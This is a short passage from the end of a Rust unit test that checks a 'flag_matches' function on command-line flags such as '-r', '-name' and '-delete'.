        assert!(!flag_matches("--recursive", "-r"));
        assert!(flag_matches("-delete", "-delete"));
        assert!(!flag_matches("-name", "-delete"));
    }
}
